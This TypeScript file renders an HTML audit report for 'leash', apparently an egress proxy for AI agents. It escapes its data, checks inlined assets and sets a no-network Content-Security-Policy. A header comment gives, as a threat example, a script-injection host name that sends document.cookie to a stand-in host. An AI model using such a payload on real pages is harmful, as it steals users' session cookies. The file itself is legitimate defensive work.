// Renders ReportData (report.ts) as one self-contained HTML page for `leash audit report`: styles, the charting
// library (uPlot, handed in as text by the caller, which reads it from node_modules), the page script and the data
// are all inline, so the file opens offline and can be attached to a ticket.
// The data is the log's, and the log is written from what agents sent: host names, paths, agent names and messages
// are attacker-controlled text. Attack: a host named `</script><script>fetch('//x/'+document.cookie)` in a record.
// Defences: the data travels as JSON in a `type="application/json"` block with every `<`, `>`, `&`, U+2028 and
// U+2029 escaped, so no byte sequence in it can end the block; the page script puts log text into the page only with
// textContent, never as HTML; and a Content-Security-Policy allows no network access at all (`default-src 'none'`,
// inline script and style only), so even a mistake cannot make the page fetch, post or load anything.
// PURE: no I/O, no clock (the generation time is a parameter).

import { PAGE_CSS, PAGE_SCRIPT } from './report-page.js';
import type { ReportData } from './report.js';

export interface ReportAssets {
  /** uPlot's IIFE build (defines the global `uPlot`). */
  readonly chartJs: string;
  readonly chartCss: string;
}

export interface ReportMeta {
  readonly generatedAt: string;
  readonly inputs: readonly string[];
  /** The filters given, as on the command line (`--agent research`). */
  readonly filters: readonly string[];
  readonly policy: readonly string[] | null;
  readonly version: string;
}

/** JSON that is safe inside a <script> element and in any HTML context: no `<`, `>`, `&`, U+2028, U+2029 left. */
export function scriptJson(value: unknown): string {
  return JSON.stringify(value).replace(
    /[<>&\u2028\u2029]/g,
    (c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`,
  );
}

/** Text inside a <script> or <style> element must not contain its end tag (a vendored file is checked, not trusted). */
function rawText(text: string, element: 'script' | 'style'): string {
  if (new RegExp(`</${element}`, 'i').test(text))
    throw new Error(`inlined ${element} contains </${element}: refusing to build the report`);
  return text;
}

export const CSP = [
  "default-src 'none'",
  "script-src 'unsafe-inline'",
  "style-src 'unsafe-inline'",
  'img-src data:',
  "base-uri 'none'",
  "form-action 'none'",
].join('; ');

export function renderReport(data: ReportData, meta: ReportMeta, assets: ReportAssets): string {
  return `<!doctype html>
<html lang="en">
<head>
<meta charset="utf-8">
<meta http-equiv="Content-Security-Policy" content="${CSP}">
<meta name="referrer" content="no-referrer">
<meta name="viewport" content="width=device-width, initial-scale=1">
<title>leash audit report</title>
<style>${rawText(assets.chartCss, 'style')}</style>
<style>${rawText(PAGE_CSS, 'style')}</style>
</head>
<body>
<header>
  <h1>leash audit report</h1>
  <p id="period" class="muted"></p>
</header>
<section id="chain" class="chain"></section>
<nav class="controls">
  <label>Agent <select id="agent"></select></label>
  <span class="effects">Show
    <label><input type="checkbox" id="show-allow" checked> allowed</label>
    <label><input type="checkbox" id="show-deny" checked> denied</label>
  </span>
</nav>
<section id="kpis" class="kpis"></section>
<section class="card wide"><h2>Requests over time</h2>
  <p class="muted" id="timeline-note"></p>
  <div id="chart-timeline" class="chart"></div>
</section>
<div class="grid">
<section class="card"><h2>Bytes sent upstream per host</h2>
  <p class="muted" id="bytes-note"></p>
  <div id="chart-bytes" class="chart"></div>
  <div id="table-bytes"></div>
</section>
<section class="card"><h2>Top denied hosts</h2>
  <p class="muted">Denied requests and tunnels per host.</p>
  <div id="chart-denied" class="chart"></div>
  <div id="table-denied"></div>
</section>
</div>
<section class="card wide"><h2>Requests per agent</h2>
  <p class="muted">The effects ticked above, per time bucket.</p>
  <div id="chart-agents" class="chart"></div>
</section>
<div class="grid">
<section class="card"><h2>Deny reasons</h2><div id="table-reasons"></div></section>
<section class="card"><h2>Rate-limit and bandwidth hits</h2>
  <p class="muted"><code>rate_limited</code>: over a rule's rateLimit (429);
    <code>bandwidth</code>: over its upload budget (cut).</p>
  <div id="table-limits"></div>
</section>
</div>
<section class="card wide"><h2>Grants: from the response that granted to the host used</h2>
  <p class="muted">A trusted response (its rule and host) referenced a host; the agent was let reach it for the TTL.
    Issued: <code>event: grant</code> records; used: requests allowed by <code>rule: grant</code>.</p>
  <div id="chart-grants" class="chart"></div>
  <div id="table-grants"></div>
</section>
<div class="grid">
<section class="card"><h2>Rules hit most</h2><div id="table-rules"></div></section>
<section class="card"><h2>Rules never hit</h2>
  <p class="muted" id="never-note"></p>
  <div id="table-never"></div>
</section>
</div>
<section class="card wide"><h2>Policy reloads and revisions</h2>
  <div id="table-events"></div>
  <div id="table-revisions"></div>
</section>
<footer class="muted" id="footer"></footer>
<script type="application/json" id="leash-data">${scriptJson({ data, meta })}</script>
<script>${rawText(assets.chartJs, 'script')}</script>
<script>${rawText(PAGE_SCRIPT, 'script')}</script>
</body>
</html>
`;
}
